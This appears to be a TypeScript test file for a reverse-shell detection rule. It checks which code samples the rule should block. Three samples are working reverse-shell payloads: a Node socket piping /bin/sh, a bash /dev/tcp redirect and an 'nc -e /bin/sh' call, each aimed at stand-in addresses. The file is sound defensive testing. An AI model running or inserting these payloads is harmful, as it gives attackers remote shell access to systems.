import { testFileRule } from '../../test/rule-cases.ts';
import { reverseShell } from './reverse-shell.ts';

testFileRule(reverseShell, [
  {
    name: 'a shell on a socket',
    text: `(function () { var net = require("net"), cp = require("child_process"), sh = cp.spawn("/bin/sh", []);
      var client = new net.Socket(); client.connect(4444, "10.0.0.1", function () { client.pipe(sh.stdin); sh.stdout.pipe(client); sh.stderr.pipe(client); }); return /a/; })();`,
    tier: 'block',
  },
  {
    name: 'bash alone',
    text: `require('child_process').exec('bash -i >& /dev/tcp/203.0.113.9/4444 0>&1')`,
    tier: 'block',
  },
  {
    name: 'netcat',
    text: `require('child_process').execSync("nc -e /bin/sh 203.0.113.9 4444")`,
    tier: 'block',
  },
  {
    name: 'a shell for a command',
    text: `require('child_process').spawn('/bin/sh', ['-c', cmd]).stdout.pipe(process.stdout)`,
    tier: null,
  },
  {
    name: 'a proxy',
    text: `require('net').connect(80, host).pipe(client); client.pipe(upstream.stdin)`,
    tier: null,
  },
  {
    name: 'a check whether a port is open',
    text: `require('child_process').exec('nc -z localhost 5432')`,
    tier: null,
  },
]);
